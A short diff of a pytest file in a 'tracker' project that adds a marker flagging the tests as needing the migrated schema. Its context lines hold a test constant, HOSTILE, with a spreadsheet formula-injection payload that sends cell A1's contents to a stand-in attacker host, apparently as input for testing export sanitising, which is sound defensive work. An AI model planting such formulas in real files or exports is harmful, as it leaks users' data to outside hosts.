@@ -15,6 +15,8 @@ import pytest
 
 from tracker.archive import corpus_pages
 
+pytestmark = pytest.mark.migrated  # the schema is not these tests' subject (conftest's database_url)
+
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
